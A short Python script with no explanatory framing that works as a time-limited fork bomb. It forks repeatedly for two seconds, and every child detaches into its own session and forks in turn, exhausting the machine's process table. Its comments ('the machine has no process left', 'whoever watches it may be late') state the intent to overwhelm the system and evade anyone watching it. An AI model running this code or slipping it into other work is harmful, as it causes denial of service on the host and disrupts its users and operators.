import contextlib
import os
import time

end = time.monotonic() + 2  # should nobody stop it
with contextlib.suppress(OSError):  # the machine has no process left
    while time.monotonic() < end:
        if os.fork() == 0:
            os.setsid()
time.sleep(60)  # whoever watches it may be late
